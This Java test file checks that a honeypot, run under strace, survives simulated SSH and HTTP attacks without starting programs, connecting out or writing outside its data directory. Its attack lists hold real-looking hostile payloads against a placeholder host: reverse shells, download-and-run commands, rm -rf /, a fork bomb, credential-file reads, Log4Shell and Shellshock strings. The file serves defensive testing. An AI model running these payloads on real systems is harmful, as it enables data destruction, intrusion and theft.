package dev.bulwark.deception;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.bulwark.core.testing.Tools;
import java.io.File;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Attacker sessions against a honeypot running under {@code strace -f}: after start-up the process
 * must start no program, connect nowhere, write no file outside its data directory and open no file
 * outside it, the JDK and its class path; its heap must stay under a small cap.
 */
class SafetyTest {
  private static final List<String> ATTACKS =
      List.of(
          "rm -rf / --no-preserve-root",
          "rm -rf /*",
          "wget http://203.0.113.9/bins.sh -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x",
          "curl -fsSL http://203.0.113.9/m.sh | sh",
          "cd /tmp; ; nc -e /bin/sh 203.0.113.9 4444",
          "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
          ":(){ :|:& };:",
          "cat /etc/shadow /root/.ssh/id_rsa ../../../../etc/shadow",
          "echo -e '\\x7fELF' > /tmp/a; sh /tmp/a; python3 -c 'import os; os.system(\"id\")'",
          "perl -e 'exec \"/bin/sh\"'; busybox wget http://203.0.113.9/x; tftp -g -r x 203.0.113.9",
          "$(id) `id` ${IFS}id; id | sh; sh -c 'sh -c \"sh -c \\\"sh -c id\\\"\"'");

  @Test
  void attackerSessions_executeNothing_connectNowhere_touchNothingOutsideTheDataDirectory(
      @TempDir Path dir) throws Exception {
    assumeTrue(OpenSsh.available(), OpenSsh.missing());
    assumeTrue(Tools.onPath("strace").isPresent(), Tools.missing("strace", "strace"));
    Path data = Files.createDirectories(dir.resolve("data"));
    Path trace = dir.resolve("trace.txt");
    String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
    List<String> cmd =
        List.of(
            "strace",
            "-f",
            "-qq",
            "-o",
            trace.toString(),
            "-e",
            "trace=execve,execveat,connect,openat,creat,rename,renameat,renameat2,unlink,unlinkat,mkdir,mkdirat",
            java,
            "-Xmx96m",
            "-XX:-UsePerfData",
            "-cp",
            System.getProperty("java.class.path"),
            SafetyHost.class.getName(),
            data.toString());
    Process host =
        new ProcessBuilder(cmd)
            .redirectErrorStream(true)
            .redirectOutput(dir.resolve("host.log").toFile())
            .start();
    try {
      Path portFile = data.resolve("port");
      for (int i = 0; i < 300 && !Files.exists(portFile); i++) {
        TimeUnit.MILLISECONDS.sleep(100);
      }
      assertThat(portFile)
          .as(
              Files.exists(dir.resolve("host.log"))
                  ? Files.readString(dir.resolve("host.log"))
                  : "")
          .exists();
      int port = Integer.parseInt(Files.readString(portFile).trim());
      for (String a : ATTACKS) {
        OpenSsh.ssh(port, "admin", "admin", a, null, false);
      }
      OpenSsh.ssh(port, "admin", "admin", null, String.join("\n", ATTACKS) + "\nexit\n", false);
      OpenSsh.Result longLine =
          OpenSsh.ssh(port, "admin", "admin", null, "echo " + "A".repeat(3 << 20) + "\n", false);
      byte[] garbage = new byte[256 * 1024];
      new Random(7).nextBytes(garbage);
      OpenSsh.ssh(
          port, "admin", "admin", null, new String(garbage, StandardCharsets.ISO_8859_1), false);
      int httpPort = Integer.parseInt(Files.readString(data.resolve("http-port")).trim());
      for (String request : HTTP_ATTACKS) {
        String answer = http(httpPort, request.getBytes(StandardCharsets.ISO_8859_1));
        assertThat(answer).as(request).startsWith("HTTP/1.1 ");
        // nothing of the request comes back: not the script, the probe, nor the path
        assertThat(answer).doesNotContain("<script", "jndi", "/etc/passwd", "() {", "wget");
      }
      String huge =
          "POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: "
              + (8 << 20)
              + "\r\n\r\n";
      byte[] hugeBody = new byte[8 << 20];
      Arrays.fill(hugeBody, (byte) 'A');
      http(httpPort, concat(huge.getBytes(StandardCharsets.ISO_8859_1), hugeBody));
      http(httpPort, garbage);
      assertThat(
              http(
                  httpPort,
                  "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
                      .getBytes(StandardCharsets.ISO_8859_1)))
          .as("the HTTP decoy still answers after the attacks")
          .startsWith("HTTP/1.1 200");
      OpenSsh.Result still = OpenSsh.ssh(port, "admin", "admin", "echo alive", null, false);
      assertThat(still.out()).as("the honeypot still answers after the attacks").contains("alive");
      assertThat(longLine.out().length()).isLessThan(1 << 20);
      host.getOutputStream().close();
      assertThat(host.waitFor(60, TimeUnit.SECONDS)).isTrue();
    } finally {
      // strace detaches from its tracee when killed; end the traced JVM itself too
      host.descendants().forEach(ProcessHandle::destroyForcibly);
      host.destroyForcibly();
    }
    assertThat(Long.parseLong(Files.readString(data.resolve("heap")).trim())).isLessThan(96L << 20);
    List<String> violations = violations(Files.readAllLines(trace), data);
    assertThat(violations).isEmpty();
  }

  private static final List<String> HTTP_ATTACKS =
      List.of(
          "GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
          "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://203.0.113.9/b}\r\nConnection: close\r\n\r\n",
          "GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/bash -c 'wget http://203.0.113.9/x'\r\nConnection: close\r\n\r\n",
          "GET /shell?cd+/tmp;wget+http://203.0.113.9/mozi.m HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
          "POST /wp-login.php HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 46\r\nConnection: close\r\n\r\nlog=%3Cscript%3Ealert(1)%3C%2Fscript%3E&pwd=$(id",
          "GET /<script>alert(1)</script> HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");

  /** Sends raw bytes to the decoy and returns what it answers (empty when it only closes). */
  private static String http(int port, byte[] request) throws Exception {
    try (Socket s = new Socket("127.0.0.1", port)) {
      s.setSoTimeout(20_000);
      try {
        s.getOutputStream().write(request);
        s.shutdownOutput();
      } catch (IOException closedEarly) {
        // the decoy may stop reading a body past its cap and close: that is its answer
      }
      try {
        return new String(s.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
      } catch (IOException reset) {
        return "";
      }
    }
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] out = Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }

  private static final Pattern OPEN = Pattern.compile("openat\\([^,]+, \"([^\"]*)\", ([A-Z_|]+)");
  private static final Pattern WRITE_PATH =
      Pattern.compile(
          "(?:creat|rename|renameat2?|unlink|unlinkat|mkdir|mkdirat)\\((?:[^,\"]+, )?\"([^\"]*)\"");

  /** The system calls after start-up that a honeypot must never make. */
  static List<String> violations(List<String> lines, Path data) {
    List<String> allowedReads = new ArrayList<>();
    allowedReads.add(System.getProperty("java.home"));
    for (String e : System.getProperty("java.class.path").split(File.pathSeparator)) {
      allowedReads.add(e);
    }
    allowedReads.addAll(
        List.of(
            "/proc/",
            "/sys/",
            "/dev/urandom",
            "/dev/random",
            "/etc/localtime",
            "/usr/share/zoneinfo"));
    String d = data.toAbsolutePath().toString();
    List<String> out = new ArrayList<>();
    boolean started = false;
    for (String l : lines) {
      if (l.contains("ready-marker-")) {
        started = true;
        continue;
      }
      if (l.contains("connect(") && (l.contains("AF_INET") || l.contains("AF_INET6"))) {
        out.add("outbound connection: " + l);
      }
      if (!started) {
        continue;
      }
      if (l.contains("execve(") || l.contains("execveat(")) {
        out.add("program started: " + l);
      }
      Matcher m = OPEN.matcher(l);
      if (m.find()) {
        String path = m.group(1);
        boolean writes =
            m.group(2).contains("O_WRONLY")
                || m.group(2).contains("O_RDWR")
                || m.group(2).contains("O_CREAT");
        boolean inData = path.startsWith(d);
        if (writes && !inData) {
          out.add("file written outside the data directory: " + l);
        } else if (!inData && allowedReads.stream().noneMatch(path::startsWith)) {
          out.add("file opened outside the data directory: " + l);
        }
      }
      Matcher w = WRITE_PATH.matcher(l);
      if (w.find() && !w.group(1).startsWith(d)) {
        out.add("file changed outside the data directory: " + l);
      }
    }
    if (!started) {
      out.add("the trace never shows the end of start-up: strace saw nothing of the honeypot");
    }
    return out;
  }

  @Test
  void violations_flagExecConnectAndWritesAfterStartUp(@TempDir Path dir) {
    String d = dir.toAbsolutePath().toString();
    List<String> trace =
        List.of(
            "100 execve(\"/usr/bin/java\", [\"java\"], 0x0) = 0",
            "101 openat(AT_FDCWD, \"" + d + "/ready-marker-100\", O_RDONLY) = -1 ENOENT",
            "102 openat(AT_FDCWD, \"" + d + "/uploads/abc\", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 9",
            "103 execve(\"/bin/sh\", [\"sh\", \"-c\", \"id\"], 0x0) = 0",
            "104 connect(9, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr(\"203.0.113.9\")}, 16) = -1",
            "105 openat(AT_FDCWD, \"/etc/shadow\", O_RDONLY) = -1 EACCES",
            "106 openat(AT_FDCWD, \"/tmp/x\", O_WRONLY|O_CREAT, 0644) = 10");
    assertThat(violations(trace, dir))
        .hasSize(4)
        .anySatisfy(v -> assertThat(v).startsWith("program started"))
        .anySatisfy(v -> assertThat(v).startsWith("outbound connection"))
        .anySatisfy(v -> assertThat(v).startsWith("file opened outside"))
        .anySatisfy(v -> assertThat(v).startsWith("file written outside"));
    assertThat(violations(List.of(trace.get(0)), dir))
        .singleElement()
        .asString()
        .contains("never shows");
  }
}
